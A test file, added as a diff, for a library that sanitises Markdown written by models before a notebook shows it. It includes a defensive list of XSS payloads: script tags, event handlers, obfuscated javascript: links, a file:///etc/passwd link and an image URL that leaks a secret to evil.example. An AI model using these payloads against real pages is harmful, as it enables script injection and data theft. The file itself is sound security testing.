@@ -1,0 +1,331 @@
+"""What a model wrote, as a notebook renders it: nothing acts, code is code, money is no maths.
+
+A real CommonMark renderer that lets HTML through shows it, with its own check of links switched off.
+"""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from hf_text.markdown import render
+
+PLAIN = MarkdownIt("commonmark", {"html": True})
+GITHUB = MarkdownIt("gfm-like", {"html": True})  # tables, struck out text, bare addresses as links
+RENDERERS = (PLAIN, GITHUB)
+for renderer in RENDERERS:
+    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
+
+# What the renderers and this library write by themselves.
+OURS = {"details", "summary", "span", "code", "pre", "p", "blockquote", "ul", "ol", "li", "a", "em", "strong", "s"}
+OURS |= {"h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}
+
+
+class Page(HTMLParser):
+    """What is on a rendered page: its tags with their attributes, its text, its code."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.code: list[str] = []
+        self.other: list[str] = []
+        self._in_code = False
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        if tag == "code":
+            self._in_code = True
+            self.code.append("")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_code = self._in_code and tag != "code"
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+        if self._in_code:
+            self.code[-1] += data
+
+    def handle_comment(self, data: str) -> None:
+        self.other.append(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def can_act(page: Page) -> list[Any]:
+    """What of a page could do something."""
+    found: list[Any] = [tag for tag in page.tags if tag[0] not in OURS]
+    for name, attributes in page.tags:
+        found += [
+            (name, attributes) for attribute in attributes if attribute not in ("href", "class", "start", "title")
+        ]
+        address = re.sub(r"[\x00-\x20]", "", attributes.get("href") or "")
+        scheme = re.match(r"[a-z][a-z0-9+.-]*:", address, re.IGNORECASE)
+        if scheme and scheme[0].lower() not in ("http:", "https:", "mailto:"):
+            found.append((name, attributes))
+    return found + page.other
+
+
+def pages(text: str, reasoning: str = "") -> list[Page]:
+    return [Page(renderer.render(render(text, reasoning))) for renderer in RENDERERS]
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "text <img src=x onerror=alert(1)>",
+    "</details><iframe src='javascript:alert(1)'></iframe>",
+    "<b\nonclick='alert(1)'>x</b>",
+    "<!-- --><?php ?><![CDATA[x]]><!DOCTYPE html>",
+    "<style>\n\n</style>\n<pre>\n\n<script>",
+    r"\<script>alert(1)</script>",
+    r"\\<script>alert(1)</script>",
+    # code that is none
+    "an open ` and\n`<script>` another",
+    "`a\n- <script>`",
+    "`a\n\n<script>`",
+    "\\`<script>`",
+    "``<script>`",
+    "`<script>``",
+    "a ``` b\n<script>\n```",
+    "```a`b\n<script>\n```",
+    "- a\n  ```\n<script>\n```",
+    "1. a\n   ```\n   x\n```\n<script>",
+    "- > ~~~\n~~~\n<script>\n~~~",
+    "text\n    ```\n    <script>",
+    "text\n    <script>",
+    "- a\n\n    <script>",
+    "> ```\n<script>\n> ```",
+    "> a\n    <script>",
+    ">" * 20 + " ```\n" + ">" * 20 + " <script>\n" + ">" * 19 + " <script>",
+    "| `a | b` `<script>` |\n|---|---|\n| `c | <script>` |",
+    "https://a`<script>`",
+    "www.a.example`<script>`",
+    "https://a&lt;``<script>``",
+    "$x$`<script>",
+    "$`$<script>`",
+    "$x <script> y$",
+    "$$\n<script>\n$$",
+    '[a]: x\n"\n```\n"\n<script>\n```',
+    "x\u2028```\n<script>\n```",
+    "```\n\u2028```\n<script>\n```",
+    "```\r```\r<script>",
+    # links
+    "[a](javascript:alert(1))",
+    "[a]( javascript:alert(1))",
+    "[a](\njavascript:alert(1))",
+    "[a](<javascript:alert(1)>)",
+    "[a](JaVaScRiPt:alert(1))",
+    "[a](java&Tab;script:alert(1))",
+    "[a](&#106;avascript:alert(1))",
+    "[a](javascript&colon;alert(1))",
+    r"[a](java\script:alert(1))",
+    r"[a](\javascript:alert(1))",
+    "[a](((javascript:alert(1))))",
+    "[[a](https://x)](javascript:alert(1))",
+    "[![a](https://x/y.png)](javascript:alert(1))",
+    "[a](vbscript:x) [b](data:text/html,<script>) [c](file:///etc/passwd)",
+    "<javascript:alert(1)>",
+    "[a]\n\n[a]: javascript:alert(1)",
+    "[a][b]\n\n[b]:\njavascript:alert(1)",
+    "[a\nb]\n\n> [a\nb]: <javascript:alert(1)>",
+    "[a][]\n\n- [a]: data:text/html;base64,PHNjcmlwdD4= 'x'",
+    "x[a](javascript:1)\\](javascript:2)",
+    # pictures
+    "![a](https://evil.example/?secret)",
+    "![a][b]\n\n[b]: https://evil.example/x.png",
+    "![a]\n\n[a]: https://evil.example/x.png",
+    "!![a](data:image/svg+xml,<svg>)",
+    "[![a](https://x/y.png)](https://x)",
+    "![a]\\(x)![b](https://x/y.png)",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("place", ["text", "reasoning", "quote", "item", "after text"])
+def test_nothing_that_a_model_writes_can_act(text: str, place: str) -> None:
+    if place == "quote":
+        text = "\n".join(f"> {line}" for line in text.split("\n"))
+    elif place == "item":
+        text = "- " + text.replace("\n", "\n  ")
+    elif place == "after text":
+        text = f"text\n{text}\n```\n<script>\n```"
+    for page in pages("x", text) if place == "reasoning" else pages(text):
+        assert can_act(page) == []
+
+
+def test_the_search_finds_what_can_act() -> None:
+    assert can_act(Page(PLAIN.render("<script>"))) == [("script", {})]
+    assert can_act(Page(PLAIN.render("[a](javascript:alert&#40;1&#41;)")))
+    assert can_act(Page(PLAIN.render("![a](https://x)")))
+
+
+FRAGMENTS = [
+    *("<evil>", "<evil x='", "</evil>", "<", ">", "<!--", "<?", "<http://a>", "<https://a`b>", "<javascript:1>"),
+    *("`", "``", "```", "~~~", "````", "`<evil>`", "```\n<evil>\n```\n", "~~~\n<evil>\n~~~\n", "  ```\n  $\n  ```\n"),
+    *("\n", "\n\n", "    ", "\t", " ", "\r", "\u2028", "\x0c", "\u00a0", "> ", ">", "- ", "1. ", "10) ", "# ", "---"),
+    *("$", "$$", "$x$", "$x{$", "\\", "\\begin{a}", "`\\end{a}`", "\\\\(", "@@0@@", "{", "}", "{=html}"),
+    *("[a](javascript:1)", "![", "[", "]", "](", "]:", "[a]: ", "[a]", "(", ")", "![c](https://x/y.png)", "[^1]: "),
+    *("https://x", "www.x", "javascript:1", "javascript&colon;1", "&lt;", ":", '"', "x", "text", "1"),
+    "| a | b |\n|---|---|\n",
+    "|",
+]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=30).map("".join), st.booleans())
+def test_nothing_that_can_be_put_together_can_act(text: str, thought: bool) -> None:
+    for page in pages("x", text) if thought else pages(text):
+        assert can_act(page) == []
+
+
+class TestCode:
+    """Code is what it was, whatever stands in it."""
+
+    CODE = "if a < b and c:\n    print('<b>', \"&amp;\", `x`)\n\n\tend(1)"
+
+    @pytest.mark.parametrize("fence", ["```", "~~~", "`````", "```python", "~~~ python {1}", "```{python} x"])
+    def test_a_fenced_block(self, fence: str) -> None:
+        mark = fence.rstrip("python {1}x")
+        for page in pages(f"See:\n{fence}\n{self.CODE}\n{mark}\nThe <end>"):
+            assert page.code == [f"{self.CODE}\n"]
+            assert "The <end>" in page.text
+
+    @pytest.mark.parametrize("before", ["- a\n  ", "1. a\n   ", "1. a\n   - b\n\n     ", "> ", "   ", "10.   "])
+    def test_a_block_within_something_else(self, before: str) -> None:
+        margin = re.sub(r"[^>]", " ", before.rpartition("\n")[2])
+        code = self.CODE.expandtabs(4)
+        lines = ["```", *code.split("\n"), "```"]
+        text = before + f"\n{margin}".join(lines) + "\n\nThe <end>"
+        for page in pages(text):
+            assert page.code == [f"{code}\n"]
+            assert "The <end>" in page.text
+
+    def test_a_block_that_stands_left_of_its_item_is_kept_together(self) -> None:
+        for page in pages("1. ```python\ndef f():\n    return '<b>'\n```\n2. next"):
+            assert page.code == ["def f():\n    return '<b>'\n"]
+
+    @pytest.mark.parametrize("indent", ["    ", "\t"])
+    def test_an_indented_block(self, indent: str) -> None:
+        for page in pages(f"Run:\n\n{indent}echo <b> ```\n\n{indent}echo $A $B\n\nThe end"):
+            assert page.code == ["echo <b> ```\n\necho $A $B\n"]
+            assert [name for name, _ in page.tags].count("p") == 2
+
+    @pytest.mark.parametrize("text", ["`a < <b>`", "``a ` <b>``", "(`<b>`)", "`<b>` and `c`", "`$A` `\\begin{a}<b>`"])
+    def test_a_span(self, text: str) -> None:
+        for page in pages(text):
+            assert "<b>" in "".join(page.code)
+            assert page.code == Page(PLAIN.render(text)).code
+
+    def test_a_span_with_a_bar_is_whole_in_a_table(self) -> None:
+        for page in pages("| a | b |\n|---|---|\n| `x | <y>` | z |"):
+            assert page.code == ["x | <y>"]
+
+    @pytest.mark.parametrize("fence", ["```", "~~~~", "```python\nx = 1", "1. a\n   ```", "> ```"])
+    @pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
+    def test_a_fence_left_open_in_the_reasoning_ends_with_it(self, fence: str, end: str) -> None:
+        reasoning = f"Let me see:\n\n{fence}\nprint(1)\n".replace("\n", end)
+        for page in pages("**Blue**", reasoning):
+            assert "Blue" not in "".join(page.code)
+            assert ("strong", {}) in page.tags
+
+    def test_maths_in_blocks_of_code_does_not_reach_from_one_to_the_next(self) -> None:
+        """JupyterLab looks for an environment of LaTeX in code too; an empty line ends it."""
+        shown = render("```\n\\begin{a}\n```\n~~~\n\\end{a}\n~~~\n```\n<b>\n```")
+        assert "```\n\n~~~" in shown
+        assert shown.count("<") == 1
+
+
+class TestWhatStays:
+    """Ordinary Markdown is left as it is."""
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "# Sky\n\n**Blue** and *red*, ~~green~~\n\n---\n\n1. a\n2. b\n   - c\n\n> quoted\n> more",
+            "| a | b |\n|---|:-:|\n| `c` | d |",
+            "See [the docs](https://example.org/a_(b)?c=d&e=f#g 'title'), [mail](mailto:a@b.example), [here](#x).",
+            "[a](./b.md) [c](d) [e](/f?g:h)\n\n<https://example.org/x?y=z>",
+            "```python\nprint('$5', \"<b>\")\n```",
+            "line  \nbreak\\\nagain & again &lt; 5 > 3",
+            "$x$, $\\frac{1}{2}$, $$y$$",
+            "$$a\n$b$\n$$",
+        ],
+    )
+    def test_it_is_not_touched(self, text: str) -> None:
+        assert render(text) == text
+
+    def test_links_lead_where_they_led(self) -> None:
+        for page in pages("[a](https://x.example/?b=$c&d=$e), [`f`](g/h), <https://y.example>"):
+            addresses = [attributes["href"] for name, attributes in page.tags if name == "a"]
+            assert addresses == ["https://x.example/?b=%24c&d=%24e", "g/h", "https://y.example"]
+
+    def test_a_picture_becomes_a_link_to_it(self) -> None:
+        for page in pages("![a cat](https://x.example/cat.png)"):
+            assert page.text.strip() == "!a cat"
+            assert ("a", {"href": "https://x.example/cat.png"}) in page.tags
+
+
+class TestReasoning:
+    def test_it_is_folded_away_above_the_text(self) -> None:
+        assert render("**Blue**", "Sky is air.") == (
+            "<details><summary>Reasoning</summary>\n\n> Sky is air.\n\n</details>\n\n**Blue**"
+        )
+
+    def test_it_cannot_break_out(self) -> None:
+        shown = render("Blue", "</details>\n\n</blockquote>\n# x")
+        assert shown.count("</details>") == 1
+        assert shown.count("<") == 4
+
+
+class TestMoney:
+    DOLLAR = "<span>&#36;</span>"
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "It costs @5 to @10.",
+            "Between @5-@10, or US@6",
+            "@5",
+            "@5 and\n@6",
+            "here:\n\n@5 and @6",
+            "@ 5, or 6@, or @ 7",
+            "from @HOME to @PATH",
+            "- @1\n- @2\n    - @3 or @4",
+            "`a` costs @5 (not @6)",
+            "@@",
+            "```\necho $A $B\n```\n@5 to @6",
+            "~~~~\n~~~\necho $A $B\n~~~~\n@5 to @6",
+            "a `$A` and ``$B ` $C`` for @5",
+            "the line $x^2$ for @5 each, $y$ for @6",
+            "$$\nx = 5\n$$\n@5 to @6",
+        ],
+    )
+    def test_amounts_are_not_shown_as_maths(self, text: str) -> None:
+        """A dollar in an element of its own is paired with no other. Code and maths stay as they are."""
+        assert render(text.replace("@", "$")) == text.replace("@", self.DOLLAR)
+
+    def test_a_backtick_without_a_partner_does_not_hide_a_dollar(self) -> None:
+        for text in ("an open ` costs $5 or $6", "an open ` at $5\n\nand another ` at $6"):
+            assert render(text) == text.replace("$", self.DOLLAR).replace("`", "&#96;")
+
+    def test_a_dollar_that_the_model_has_escaped_is_shown_without_its_backslash(self) -> None:
+        assert render(r"\$5 to \$10") == f"{self.DOLLAR}5 to {self.DOLLAR}10"
+
+    def test_amounts_in_the_reasoning_are_no_maths_either(self) -> None:
+        shown = render("Blue", "$5 <b> to\n`$A $B` $10")
+        assert f"\n\n> {self.DOLLAR}5 &lt;b> to\n> `$A $B` {self.DOLLAR}10\n\n</details>" in shown
+
+    @pytest.mark.parametrize("maths", [r"\href{javascript:alert(1)}{x}", r"\require{x}", "a{", r"\url{x}"])
+    def test_maths_that_could_act_is_shown_as_text(self, maths: str) -> None:
+        assert render(f"${maths}$") == f"{self.DOLLAR}{maths}{self.DOLLAR}"
+
+    def test_in_maths_a_sign_is_still_that_sign(self) -> None:
+        assert render("$a<b$ and $f[a](b)$") == r"$a\lt b$ and $f[a] (b)$"
